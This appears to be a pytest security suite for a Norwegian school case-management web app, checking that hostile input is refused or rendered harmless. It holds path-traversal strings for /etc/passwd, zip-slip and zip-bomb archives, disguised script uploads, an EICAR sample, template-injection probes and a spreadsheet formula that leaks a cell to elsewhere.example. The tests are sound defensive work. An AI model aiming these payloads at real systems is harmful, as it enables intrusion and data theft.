"""A43 paths that climb, A44 and A45 files that are not what they seem, A46 formulas, A47 too much, A48 odd signs, A49 templates."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from uuid import uuid4

import pytest
from attacks.page_forms import PageForm, forms_on
from attacks.told_everything import name_people
from record.forms_by_hand import in_form, opened, sends, skjema
from town import A, Town, Visitor, matter, person
from web_server import CSRF, PAGE

from events.base import Stream
from events.pupil import PupilIdentityCorrected
from services.case_service.attachments.inspection import EICAR

CASE = matter("sak")
HEARD = skjema(CASE, "case.PupilHeard")
ANSWERS = {"form": "conversation", "outcome": "stated_view", "weight": "heavy"}
CLIMBS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..\\..\\x",
)
FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1;"Klikk")'
SAMI = "Čáhppes ŋ đ š ŧ ž Áhkku «Øyvind Æsøy» ïñ 🦄 e\u0301"
TURNED = "Ola\u202eredael"


def files_taken_by(visitor: Visitor, path: str) -> list[PageForm]:
    return [form for form in forms_on(path, visitor.get(path).text) if form.files]


@pytest.mark.parametrize("climb", CLIMBS)
def test_a43_no_address_climbs_out_of_its_folder(town: Town, climb: str):
    visitor = town.comes("rektor")
    for before in (
        "/static/",
        "/kalender/",
        "/kiosk/",
        "/logg-inn/nytt-passord/",
        f"/saker/{CASE}/skjema/",
        f"/saker/{CASE}/brev/",
    ):
        answer = visitor.get(f"{before}{climb}")
        assert answer.status_code in {303, 308, 400, 403, 404}, before
        assert "root:" not in answer.text, before


def test_a43_a44_a_zip_with_a_path_a_zip_within_or_a_false_size_is_refused_whole(town: Town):
    """Where a zip is taken at all: the import of people. What is in it is shown nowhere."""
    visitor, path = town.comes("administrator"), "/admin/import"
    inner = zipped({"a.csv": "x" * 1000})
    bundles = [
        zipped({"../../accounts.csv": "a"}),
        zipped({"/etc/cron.csv": "a"}),
        zipped({"manifest.csv": "propertyName,value\n", "inner.zip": inner}),
        zipped({"manifest.csv": "0" * 70_000_000}),
        zipped({f"{number}.csv": "a" for number in range(50)}),
        b"PK\x03\x04" + bytes(100),
        b"",
    ]
    for bundle in bundles:
        [form] = files_taken_by(visitor, path)
        [name] = form.files
        data = {**form.own, name: (io.BytesIO(bundle), "../../../bundle.zip")}
        answer = visitor.client.post(form.action, data=data, headers=PAGE, content_type="multipart/form-data")
        assert 400 <= answer.status_code < 500
        assert "accounts.csv" not in answer.text
        assert not (town.home.parent / "accounts.csv").exists()


@pytest.mark.parametrize("who", ["rektor", "administrator"])
def test_a45_a50_no_place_that_takes_files_takes_a_harmful_or_a_disguised_one(town: Town, who: str):
    visitor = town.comes(who)
    page = f"/saker/{CASE}/legg-ved" if who == "rektor" else "/admin/import"
    for content in (
        EICAR,
        b"\xff\xd8\xff" + EICAR,
        b"<html><script>alert(1)</script>",
        b"GIF89a/*" + b"<script>",
        b"MZ\x90" + bytes(64),
    ):
        for form in files_taken_by(visitor, page):
            for name in form.files:
                data = {**dict.fromkeys(form.asked, "photo"), **form.own, name: (io.BytesIO(content), "bilde.jpg")}
                answer = visitor.client.post(form.action, data=data, headers=PAGE, content_type="multipart/form-data")
                assert answer.status_code in {400, 413, 415, 422}
                assert "alert(1)" not in answer.text


def zipped(files: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_a46_no_table_that_is_handed_out_holds_a_formula(town: Town):
    name_people(town, FORMULA)
    tables = [town.comes("administrator").get("/admin/endringer.csv")]
    rektor = town.comes("rektor")
    raised = {"title": FORMULA, "description": FORMULA, "grade": "minor", "category": "other"}
    rektor.post("/avvik/ny", raised, page="/avvik/ny")
    tables.append(rektor.post("/avvik/eksport", {"system": "eqs", "which": "new", "format": "csv"}, page="/avvik/eksport"))
    for table in tables:
        if table.mimetype == "text/csv":
            cells = [cell for row in csv.reader(io.StringIO(table.data.decode("utf-8-sig")), delimiter=";") for cell in row]
            assert cells
            assert not [cell for cell in cells if cell.lstrip()[:1] in set("=+-@|%\t\r")]
    assert tables[0].mimetype == "text/csv"
    assert FORMULA in tables[0].data.decode().replace('""', '"')


@pytest.mark.parametrize(
    "body",
    [
        b"own_words=" + b"x" * 50_000_000,
        b"&".join(b"f%d=1" % number for number in range(1_000_000)),
        b"&".join(b"moments.%d.moment=x" % number for number in range(50_000)),
        b"own_words=" + b"%00" * 20_000,
        b"&" * 60_000,
        b"=".join([b"a"] * 30_000),
    ],
    ids=["50 MB", "a million fields", "fifty thousand rows", "nothing but NUL", "separators", "equals"],
)
def test_a47_too_much_is_refused_at_once_and_nothing_is_recorded(town: Town, body: bytes):
    visitor, before = town.comes("rektor"), len(town.events(CASE))
    token = CSRF.search(visitor.get("/personvern").text)
    assert token is not None
    began = time.perf_counter()
    for path in ("/meld/bekymring", HEARD, "/si-fra/kvittering", "/logg-inn"):
        sent = f"csrf_token={token.group(1)}&idempotency_key={uuid4()}&".encode() + body
        answer = visitor.client.post(path, data=sent, content_type="application/x-www-form-urlencoded", headers=PAGE)
        assert answer.status_code in {303, 400, 401, 413, 422, 429}, path
    assert time.perf_counter() - began < 8
    assert len(town.events(CASE)) == before


@pytest.mark.parametrize(
    "number", ["9" * 4000, "-1", "1e309", "NaN", "Infinity", "0x10", "²", "٣", "1_000", "1000001", "1.5.5", "--1"]
)
def test_a47_a_number_that_is_none_is_told_at_its_field(town: Town, number: str):
    visitor, path = town.comes("rektor"), skjema(CASE, "case.FollowUpHeld")
    answer = sends(visitor, path, opened(visitor, path), experience=number, own_words="Ord")
    assert answer.status_code == 422
    assert 'id="f-experience-error"' in answer.text
    assert "case.FollowUpHeld" not in {one.topic for one in town.events(CASE)}


def test_a48_every_letter_is_kept_as_it_was_written(town: Town):
    visitor = town.comes("rektor")
    assert sends(visitor, HEARD, opened(visitor, HEARD), **ANSWERS, view=SAMI).status_code == 303
    told = town.events(CASE)[-1]
    assert told.event.view == SAMI
    assert SAMI in visitor.get(f"/saker/{CASE}/hendelser/{told.envelope.event_id}").text


@pytest.mark.parametrize("odd", [b"a%00b", b"a%ED%A0%80b", b"a%FFb", b"%C0%AE", b"%F4%90%80%80"])
def test_a48_what_is_no_text_is_told_or_mended_and_never_stored_as_it_is(town: Town, odd: bytes):
    visitor = town.comes("rektor")
    form = opened(visitor, HEARD)
    fields = {**{name: values[0] for name, values in form.items() if values}, **ANSWERS}
    rest = "&".join(f"{name}={value}" for name, value in fields.items() if name != "view").encode()
    answer = visitor.client.post(HEARD, data=rest + b"&view=" + odd, content_type="application/x-www-form-urlencoded", headers=PAGE)
    assert answer.status_code in {303, 400, 422}
    if answer.status_code == 303:
        view = town.events(CASE)[-1].event.view
        assert "\0" not in view
        assert view.encode().decode() == view


def test_a48_a_name_that_turns_the_writing_round_turns_nothing_but_itself(town: Town):
    town.happens(Stream.PUPIL, person("elev"), PupilIdentityCorrected(name=TURNED, born_on="2017-05-04"))
    visitor = town.comes("rektor")
    for path in (f"/saker/{CASE}", f"/saker/{CASE}/parter", "/saker"):
        page = visitor.get(path).text
        assert TURNED in page, path
        assert not re.search(f"{TURNED}(?!\u202c)", page), path


def test_a48_a_pupil_is_found_whichever_way_her_name_was_typed(town: Town):
    town.happens(Stream.PUPIL, person("elev"), PupilIdentityCorrected(name="Åse Ñandú Čuoppu", born_on="2017-05-04"))
    visitor = town.comes("rektor")
    for typed in ("Åse", "A\u030ase", "åse", "ÅSE", "cuop", "Č"):
        form = {"school": A, "wanted": typed}
        found = visitor.post("/meld/elever", form, page="/meld/bekymring").text
        assert ("Ñandú" in found) is (len(typed) > 1), typed


@pytest.mark.parametrize(
    "attempt", ["{{7*7}}", "{% import os %}", "#{7*7}", "${7*7}", '#read("/etc/passwd")', "{pupil}", "%s%n", '#eval("7*7")']
)
def test_a49_what_looks_like_code_in_a_fact_is_text_on_the_page_and_on_paper(town: Town, attempt: str):
    visitor = town.comes("rektor")
    assert sends(visitor, HEARD, opened(visitor, HEARD), **ANSWERS, view=f"Syn {attempt} slutt").status_code == 303
    told = town.events(CASE)[-1]
    page = visitor.get(f"/saker/{CASE}/hendelser/{told.envelope.event_id}")
    assert "49" not in page.text.partition("Syn ")[2].partition(" slutt")[0]
    report = visitor.get(f"/saker/{CASE}/saksrapport.pdf")
    assert report.status_code == 200
    assert report.data.startswith(b"%PDF")


def test_a49_a_form_that_comes_back_runs_nothing_either(town: Town):
    visitor = town.comes("rektor")
    back = sends(visitor, HEARD, opened(visitor, HEARD), **{**ANSWERS, "weight": "tonnes"}, view="{{7*7}}{% raw %}")
    assert in_form(back)["view"] == ["{{7*7}}{% raw %}"]
